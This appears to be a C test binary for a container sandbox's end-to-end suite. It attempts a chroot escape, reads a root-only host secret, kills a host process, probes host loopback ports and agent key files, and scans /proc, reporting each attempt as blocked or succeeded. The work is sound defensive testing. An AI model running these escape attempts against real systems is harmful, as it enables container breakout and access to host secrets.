/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile RUN step tries, built static and copied into a FROM-scratch image by
 * test_e2e_sandbox.sh. Every attempt prints one line "ATTACK <name>: blocked|SUCCEEDED
 * <detail>" (the test fails on any SUCCEEDED and on any attack that printed nothing), and
 * the outbound check prints "OUTBOUND: ok <body>" or "OUTBOUND: failed <why>".
 * Targets come from the environment (Dockerfile ARGs): HOST_PID (a process on the host),
 * HOST_PORTS (ports listening on the host's 127.0.0.1), AGENT_FILES (the agent's key and
 * work dir, host paths), HOST_SECRET (a root-only file on the host), ESCAPE_TO (a host
 * path to create), OUT_ADDR/OUT_PORT (a server outside, in the test's netns). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *env(const char *k)
{
    const char *v = getenv(k);
    return v ? v : "";
}

static void verdict(const char *name, int succeeded, const char *detail)
{
    printf("ATTACK %s: %s %s\n", name, succeeded ? "SUCCEEDED" : "blocked", detail);
    fflush(stdout);
}

/* A file of the host's, read after an escape attempt: success if any byte comes back. */
static int read_host_file(const char *path, char *why, size_t cap)
{
    char buf[64];
    int fd = open(path, O_RDONLY);
    ssize_t n;
    if (fd < 0) {
        snprintf(why, cap, "open %s: %s", path, strerror(errno));
        return 0;
    }
    n = read(fd, buf, sizeof buf);
    close(fd);
    if (n < 0) {
        snprintf(why, cap, "read %s: %s", path, strerror(errno));
        return 0;
    }
    snprintf(why, cap, "read %zd bytes of %s", n, path);
    return 1;
}

/* The classic: chroot into a subdirectory keeping a cwd outside it, walk up, chroot to
 * what is there. Inside a pivot_root'ed mount namespace "up" stops at the image. */
static void chroot_escape(void)
{
    char why[512] = "", detail[1024];
    const char *secret = env("HOST_SECRET"), *escape_to = env("ESCAPE_TO");
    int dot, got = 0;

    mkdir("/farm-jail", 0700);
    dot = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("/farm-jail") != 0) {
        snprintf(detail, sizeof detail, "chroot: %s", strerror(errno));
    } else {
        if (dot >= 0 && fchdir(dot) == 0)
            for (int i = 0; i < 128; i++)
                if (chdir("..") != 0)
                    break;
        if (chroot(".") != 0)
            snprintf(why, sizeof why, "second chroot: %s; ", strerror(errno));
        got = read_host_file(secret, why + strlen(why), sizeof why - strlen(why));
        if (*escape_to) {
            int fd = open(escape_to, O_WRONLY | O_CREAT | O_EXCL, 0644);
            if (fd >= 0) {
                close(fd);
                got = 1; /* the test also looks for the file on the host */
                strncat(why, "; created the escape file", sizeof why - strlen(why) - 1);
            }
        }
        snprintf(detail, sizeof detail, "%s", why);
    }
    if (dot >= 0)
        close(dot);
    verdict("chroot-escape", got, detail);
}

static void kill_host(void)
{
    char detail[128];
    pid_t pid = (pid_t)atoi(env("HOST_PID"));
    int rc = pid > 1 ? kill(pid, SIGKILL) : -1;
    snprintf(detail, sizeof detail, "kill(%d, SIGKILL): %s", (int)pid, rc == 0 ? "sent" : strerror(errno));
    verdict("kill-host-process", rc == 0, detail);
}

/* Connects with a 3 s timeout; 1 when the TCP handshake completed. */
static int tcp_connect(const char *addr, int port, int *fd_out, char *why, size_t cap)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    struct pollfd p;
    int fd, err = 0;
    socklen_t len = sizeof err;

    if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1) {
        snprintf(why, cap, "bad address %s", addr);
        return 0;
    }
    fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) {
        snprintf(why, cap, "socket: %s", strerror(errno));
        return 0;
    }
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0 && errno != EINPROGRESS) {
        snprintf(why, cap, "connect %s:%d: %s", addr, port, strerror(errno));
        close(fd);
        return 0;
    }
    p.fd = fd;
    p.events = POLLOUT;
    if (poll(&p, 1, 3000) != 1) {
        snprintf(why, cap, "connect %s:%d: timed out", addr, port);
        close(fd);
        return 0;
    }
    getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err) {
        snprintf(why, cap, "connect %s:%d: %s", addr, port, strerror(err));
        close(fd);
        return 0;
    }
    snprintf(why, cap, "connected to %s:%d", addr, port);
    if (fd_out) {
        *fd_out = fd;
        fcntl(fd, F_SETFL, 0);
    } else {
        close(fd);
    }
    return 1;
}

/* The host's loopback services, by 127.0.0.1 and by slirp4netns's gateway to it. */
static void connect_host(void)
{
    char ports[256], *save = NULL;
    static const char *const addrs[] = {"127.0.0.1", "10.0.2.2", NULL};
    snprintf(ports, sizeof ports, "%s", env("HOST_PORTS"));
    for (char *p = strtok_r(ports, ",", &save); p; p = strtok_r(NULL, ",", &save))
        for (int i = 0; addrs[i]; i++) {
            char why[256], name[64];
            snprintf(name, sizeof name, "connect-host-loopback-%s-%s", addrs[i], p);
            verdict(name, tcp_connect(addrs[i], atoi(p), NULL, why, sizeof why), why);
        }
}

static void read_agent_files(void)
{
    char files[1024], *save = NULL;
    snprintf(files, sizeof files, "%s", env("AGENT_FILES"));
    for (char *f = strtok_r(files, ",", &save); f; f = strtok_r(NULL, ",", &save)) {
        char why[600], name[64];
        struct stat st;
        int got = stat(f, &st) == 0;
        snprintf(why, sizeof why, "stat %s: %s", f, got ? "exists" : strerror(errno));
        snprintf(name, sizeof name, "read-agent-file");
        verdict(name, got, why);
    }
}

/* Host processes: any /proc/N whose command line names farm or the registry, or more
 * processes than a RUN step has. */
static void list_host_processes(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int n = 0, found = 0;
    char detail[512] = "";

    if (!d) {
        verdict("list-host-processes", 0, "no /proc");
        return;
    }
    while ((e = readdir(d))) {
        char path[300], buf[512];
        int fd;
        ssize_t len;
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        n++;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        if ((fd = open(path, O_RDONLY)) < 0)
            continue;
        len = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (len <= 0)
            continue;
        buf[len] = 0;
        for (ssize_t i = 0; i < len; i++)
            if (!buf[i])
                buf[i] = ' ';
        if (strstr(buf, "farm-agent") || strstr(buf, "farm-coordinator") ||
            strstr(buf, "docker-registry") || strstr(buf, "sleep 600")) {
            found = 1;
            snprintf(detail, sizeof detail, "saw pid %s: %.200s; ", e->d_name, buf);
        }
    }
    closedir(d);
    snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%d processes visible", n);
    verdict("list-host-processes", found || n > 8, detail);
}

/* Root here must not be root on the host: the uid map is not the identity. */
static void host_root(void)
{
    char buf[256] = "", detail[300];
    int fd = open("/proc/self/uid_map", O_RDONLY), identity;
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        close(fd);
    }
    identity = fd < 0 || (strstr(buf, " 0 ") && strstr(buf, "4294967295"));
    for (char *p = buf; *p; p++)
        if (*p == '\n')
            *p = '|';
    snprintf(detail, sizeof detail, "uid_map %s", buf);
    verdict("host-root", identity, detail);
}

static void outbound(void)
{
    char why[256], buf[512], req[256];
    const char *addr = env("OUT_ADDR");
    int fd = -1;
    ssize_t n, len = 0;

    if (!*addr)
        return;
    if (!tcp_connect(addr, atoi(env("OUT_PORT")), &fd, why, sizeof why)) {
        printf("OUTBOUND: failed %s\n", why);
        return;
    }
    snprintf(req, sizeof req, "GET /outbound.txt HTTP/1.0\r\nHost: %s\r\n\r\n", addr);
    if (write(fd, req, strlen(req)) < 0) {
        printf("OUTBOUND: failed write: %s\n", strerror(errno));
        close(fd);
        return;
    }
    while (len < (ssize_t)sizeof buf - 1 && (n = read(fd, buf + len, sizeof buf - 1 - len)) > 0)
        len += n;
    close(fd);
    buf[len] = 0;
    {
        char *body = strstr(buf, "\r\n\r\n");
        char *nl = body ? strchr(body + 4, '\n') : NULL;
        if (nl)
            *nl = 0;
        printf("OUTBOUND: %s %s\n", body ? "ok" : "failed", body ? body + 4 : "no HTTP reply");
    }
    fflush(stdout);
}

int main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    host_root();
    kill_host();
    connect_host();
    read_agent_files();
    list_host_processes();
    outbound();
    chroot_escape(); /* last: it leaves this process chrooted */
    return 0;
}
